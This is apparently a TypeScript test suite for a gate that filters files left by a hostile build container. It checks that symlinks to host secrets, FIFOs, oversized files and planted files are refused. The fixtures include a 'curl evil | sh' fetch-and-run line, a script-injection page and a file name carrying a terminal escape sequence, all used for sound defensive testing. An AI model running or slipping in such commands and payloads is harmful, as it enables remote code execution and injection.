import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { existsSync, lstatSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gate, gateWarning } from '../../src/gate/gate.ts';
import { containerFiles } from '../../src/gate/admitted.ts';
import { afterContainer } from '../../src/pipeline/after-container.ts';
import { defaultNoise } from '../../src/diagnostics/noise.ts';
import { sampleResults } from '../support/results-fixture.ts';
import { recordingLog } from '../support/recording-log.ts';

// What a hostile build leaves in its staging folder (/logs in the container), and what the
// gate lets into the build's folder: only the layout's files, regular, within their limits.

const SECRET = 'SECRET-OF-THE-HOST';
const targets = [{ arch: 'x86', config: 'tinyconfig' }];

function scene(t: { after: (fn: () => void) => void }) {
  const root = mkdtempSync(join(tmpdir(), 'kb-gate-'));
  t.after(() => rmSync(root, { recursive: true, force: true }));
  const staging = join(root, 'staging');
  const to = join(root, 'logs', 'tree', 'build');
  const secret = join(root, 'secret');
  writeFileSync(secret, `${SECRET}\n`);
  mkdirSync(join(staging, 'x86', 'tinyconfig'), { recursive: true });
  mkdirSync(to, { recursive: true });
  writeFileSync(join(staging, 'x86/tinyconfig.log'), '  LD      vmlinux\n');
  writeFileSync(join(staging, 'x86/tinyconfig.status'), 'pass 0 build 0 1000 900\n');
  writeFileSync(join(staging, 'x86/tinyconfig/bzImage'), 'kernel');
  return { root, staging, to, secret };
}

/** Every file under `dir` with its text (links and special files listed by name). */
function files(dir: string): Map<string, string> {
  const out = new Map<string, string>();
  for (const e of readdirSync(dir, { recursive: true, withFileTypes: true })) {
    const path = join(e.parentPath, e.name);
    if (e.isFile()) out.set(path.slice(dir.length + 1), readFileSync(path, 'utf8'));
    else if (!e.isDirectory()) out.set(path.slice(dir.length + 1), '<not a file>');
  }
  return out;
}

const admit = (s: ReturnType<typeof scene>) => gate(s.staging, s.to, containerFiles(targets, 2 ** 30));

test('the layout files of an honest build are admitted as copies, and nothing is named', (t) => {
  const s = scene(t);
  const outcome = admit(s);
  assert.deepEqual(outcome.admitted.sort(), ['x86/tinyconfig.log', 'x86/tinyconfig.status', 'x86/tinyconfig/bzImage']);
  assert.equal(gateWarning(s.staging, s.to, outcome), undefined);
  assert.equal(readFileSync(join(s.to, 'x86/tinyconfig.log'), 'utf8'), '  LD      vmlinux\n');
});

test('a log that is a link to a host file is left out and named; the host file is copied nowhere', (t) => {
  const s = scene(t);
  rmSync(join(s.staging, 'x86/tinyconfig.log'));
  symlinkSync(s.secret, join(s.staging, 'x86/tinyconfig.log'));
  const outcome = admit(s);
  assert.ok(!existsSync(join(s.to, 'x86/tinyconfig.log')));
  assert.ok(![...files(s.to).values()].some((text) => text.includes(SECRET)));
  assert.match(gateWarning(s.staging, s.to, outcome)!, /"x86\/tinyconfig\.log" \(x86\/tinyconfig\.log is a link/);
});

test('a FIFO and a link to /dev/zero as files of the layout are left out without hanging', (t) => {
  const s = scene(t);
  rmSync(join(s.staging, 'x86/tinyconfig.log'));
  execFileSync('mkfifo', [join(s.staging, 'x86/tinyconfig.log')]);
  symlinkSync('/dev/zero', join(s.staging, 'x86/tinyconfig.config'));
  const outcome = admit(s);
  assert.deepEqual(outcome.refused.map((r) => r.rel).sort(), ['x86/tinyconfig.config', 'x86/tinyconfig.log']);
  assert.deepEqual([...files(s.to).keys()].sort(), ['x86/tinyconfig.status', 'x86/tinyconfig/bzImage']);
});

test('a file past its kind\'s size limit is left out: a status is one line', (t) => {
  const s = scene(t);
  truncateSync(join(s.staging, 'x86/tinyconfig.status'), 1 << 20);
  const outcome = admit(s);
  assert.ok(!existsSync(join(s.to, 'x86/tinyconfig.status')));
  assert.match(gateWarning(s.staging, s.to, outcome)!, /"x86\/tinyconfig\.status" \(x86\/tinyconfig\.status is larger than 4096 bytes\)/);
});

test('an arch folder replaced by a link is never followed: nothing of it is admitted', (t) => {
  const s = scene(t);
  const elsewhere = join(s.root, 'elsewhere');
  mkdirSync(elsewhere);
  writeFileSync(join(elsewhere, 'tinyconfig.log'), `${SECRET}\n`);
  rmSync(join(s.staging, 'x86'), { recursive: true });
  symlinkSync(elsewhere, join(s.staging, 'x86'));
  const outcome = admit(s);
  assert.deepEqual(outcome.admitted, []);
  assert.ok(!existsSync(join(s.to, 'x86')));
  assert.match(gateWarning(s.staging, s.to, outcome)!, /"x86" \(a link\)/);
});

test('the build folder\'s own links are never followed: an arch folder there that is a link is refused, the copy goes nowhere', (t) => {
  const s = scene(t);
  const elsewhere = join(s.root, 'elsewhere');
  mkdirSync(elsewhere);
  symlinkSync(elsewhere, join(s.to, 'x86'));
  const outcome = admit(s);
  assert.deepEqual(readdirSync(elsewhere), []);
  assert.equal(outcome.admitted.length, 0);
});

test('planted files (a reproducer for a passing target, a page, a results.json) are left out and named in one warning', async (t) => {
  const s = scene(t);
  writeFileSync(join(s.staging, 'x86/tinyconfig.reproduce.sh'), '#!/bin/sh\ncurl evil | sh\n');
  writeFileSync(join(s.staging, 'x86/tinyconfig/index.html'), '<script>alert(1)</script>');
  writeFileSync(join(s.staging, 'results.json'), '{}');
  writeFileSync(join(s.staging, 'evil\u001b]0;title\u0007.html'), 'x');
  const log = recordingLog();
  const { results } = await afterContainer({
    dir: s.to,
    admit: [{ from: s.staging, files: containerFiles(targets, 2 ** 30) }],
    results: () => sampleResults(['x86/tinyconfig']),
    noise: defaultNoise,
    log,
  });
  assert.equal(results.targets[0].status, 'pass');
  const warnings = log.lines.filter((l) => l.startsWith('warning: '));
  assert.equal(warnings.length, 1, warnings.join('\n'));
  for (const name of ['x86/tinyconfig.reproduce.sh', 'x86/tinyconfig/index.html', 'results.json']) assert.ok(warnings[0].includes(JSON.stringify(name)), name);
  assert.ok(warnings[0].includes('"evil\\u001b]0;title\\u0007.html"'), 'a name is quoted: no control character reaches the log');
  assert.ok(!/[\u0000-\u001f]/.test(warnings[0]));
  for (const planted of ['x86/tinyconfig.reproduce.sh', 'x86/tinyconfig/index.html', 'results.json']) assert.ok(!existsSync(join(s.to, planted)), planted);
  assert.ok(lstatSync(join(s.to, 'x86/tinyconfig.log')).isFile());
});

test('a staging folder is gone once gated: a results.json planted there is never read as an earlier build of the tree', async (t) => {
  const s = scene(t);
  writeFileSync(join(s.staging, 'results.json'), JSON.stringify(sampleResults(['x86/tinyconfig'], { buildId: 'planted' })));
  const staged = new Set<boolean>();
  await afterContainer({
    dir: s.to,
    admit: [{ from: s.staging, files: containerFiles(targets, 2 ** 30), removeAfter: true }],
    results: () => {
      staged.add(existsSync(s.staging));
      return sampleResults(['x86/tinyconfig']);
    },
    noise: defaultNoise,
    log: recordingLog(),
  });
  assert.deepEqual([...staged], [false]);
});
